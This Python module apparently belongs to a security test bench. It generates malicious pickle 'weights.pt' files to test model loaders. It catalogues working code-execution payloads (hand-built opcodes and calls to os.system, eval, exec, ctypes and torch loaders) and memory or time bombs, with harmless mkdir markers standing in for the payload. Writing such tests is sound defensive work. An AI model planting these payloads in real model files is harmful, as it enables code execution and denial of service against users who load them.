"""Pickles: every way that a program gets into one, every opcode that calls, and the functions that an attacker calls."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from pathlib import Path

from bench.attacks.attack import Attack, Hostile, Write

DOORS = ("model", "weights", "weights of the detector", "heatmap")


def _plain(protocol: int) -> Write:
    def write(folder: Path, marker: Path) -> Path:
        fpath = folder / "weights.pt"
        fpath.write_bytes(pickle.dumps({"a": Hostile(marker)}, protocol=protocol))
        return fpath

    return write


def _raw(code: Callable[[bytes], bytes]) -> Write:
    """A pickle by hand.

    Args:
        code: of the path of the marker, in ASCII, the opcodes.
    """

    def write(folder: Path, marker: Path) -> Path:
        fpath = folder / "weights.pt"
        fpath.write_bytes(code(str(marker).encode("ascii")))
        return fpath

    return write


def _text(marker: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(marker)) + marker


def _calls(module: str, name: str, argument: Callable[[bytes], bytes]) -> Write:
    """A pickle that calls a function of some module with one text."""
    return _raw(lambda marker: f"c{module}\n{name}\n".encode() + _text(argument(marker)) + b"\x85R.")


def _shell(marker: bytes) -> bytes:
    return b"mkdir " + marker


def _python(marker: bytes) -> bytes:
    return b"__import__('os').mkdir('" + marker + b"')"


FUNCTIONS: dict[str, tuple[str, str, Callable[[bytes], bytes]]] = {
    "os.system": ("os", "system", _shell),
    "posix.system": ("posix", "system", _shell),
    "subprocess.getoutput": ("subprocess", "getoutput", _shell),
    "builtins.eval": ("builtins", "eval", _python),
    "builtins.exec": ("builtins", "exec", _python),
    "__builtin__.eval, as of Python 2": ("__builtin__", "eval", _python),
    "timeit.timeit": ("timeit", "timeit", _python),
    "pydoc.pipepager": ("pydoc", "pipepager", _shell),
    "numpy's runstring": ("numpy.testing._private.utils", "runstring", _python),
    "a debugger": ("pdb", "run", _python),
    "code.interact's runner": ("cProfile", "run", _python),
    "torch's own loader": ("torch.serialization", "load", lambda marker: b"other.pt"),
    "torch.hub.load": ("torch.hub", "load", lambda marker: b"someone/else"),
    "torch.ops.load_library": ("torch._ops", "load_library", lambda marker: b"payload.so"),
    "torch.jit.load": ("torch.jit", "load", lambda marker: b"payload.pt"),
    "a module of one's own": ("payload", "run", lambda marker: marker),
    "importlib.import_module": ("importlib", "import_module", lambda marker: b"payload"),
    "ctypes.CDLL": ("ctypes", "CDLL", lambda marker: b"payload.so"),
    "attribute by attribute": ("operator", "attrgetter", lambda marker: b"__class__.__base__"),
}
"""Name -> module, function and its argument."""

OPCODES: dict[str, Callable[[bytes], bytes]] = {
    "INST": lambda m: b"(S'" + m + b"'\nios\nmkdir\n.",
    "OBJ": lambda m: b"(cos\nmkdir\nS'" + m + b"'\no.",
    "NEWOBJ": lambda m: b"cos\nmkdir\n" + _text(m) + b"\x85\x81.",
    "NEWOBJ_EX": lambda m: b"\x80\x04cos\nmkdir\n" + _text(m) + b"\x85}\x92.",
    "STACK_GLOBAL": lambda m: b"\x80\x04\x8c\x02os\x94\x8c\x05mkdir\x94\x93" + _text(m) + b"\x85R.",
    "STACK_GLOBAL by way of memo": lambda m: b"\x80\x04\x8c\x05mkdir\x940\x8c\x02osh\x00\x93" + _text(m) + b"\x85R.",
    "EXT1 of the registry": lambda m: b"\x80\x02\x82\x01" + _text(m) + b"\x85R.",
    "BUILD of a torch tensor": lambda m: b"ctorch\nTensor\n)\x81}(" + _text(b"__class__") + b"cos\nmkdir\nub.",
    "BUILD that sets __setstate__": lambda m: (
        b"ccollections\nOrderedDict\n)R}" + _text(b"__setstate__") + b"cos\nmkdir\nsb" + _text(m) + b"b."
    ),
    "a persistent id that is an object": lambda m: b"cos\nmkdir\n" + _text(m) + b"\x85RQ.",
    "a global within a dotted name": lambda m: b"\x80\x04\x8c\x05torch\x8c\x0bos.mkdir\x93" + _text(m) + b"\x85R.",
    "a second pickle behind the first": lambda m: pickle.dumps({}) + b"cos\nmkdir\n" + _text(m) + b"\x85R.",
}

BOMBS: dict[str, Callable[[bytes], bytes]] = {
    "a text of 2**62 bytes": lambda m: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b".",
    "a frame of 2**62 bytes": lambda m: b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.",
    "a number of 2**31 bytes": lambda m: b"\x80\x02\x8b" + struct.pack("<i", (1 << 31) - 1) + b".",
    "a memo of 2**32 places": lambda m: b"\x80\x02Nr" + struct.pack("<I", (1 << 32) - 1) + b".",
    "lists that double 60 times": lambda m: (
        b"\x80\x02]q\x00"
        + b"".join(b"](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) for i in range(60))
        + b"."
    ),
    "100,000 lists within each other": lambda m: b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".",
    "marks without end": lambda m: b"(" * 1_000_000,
    "a list that holds itself": lambda m: b"\x80\x02]q\x00h\x00a.",
}

ATTACKS: tuple[Attack, ...] = (
    *(Attack(f"protocol {n}", "pickle", "runs code", _plain(n), DOORS) for n in range(6)),
    *(Attack(f"opcode {name}", "pickle", "runs code", _raw(code), DOORS) for name, code in OPCODES.items()),
    *(Attack(f"calls {name}", "pickle", "runs code", _calls(*how), DOORS) for name, how in FUNCTIONS.items()),
    *(Attack(name, "pickle", "uses up memory or time", _raw(code), DOORS) for name, code in BOMBS.items()),
)
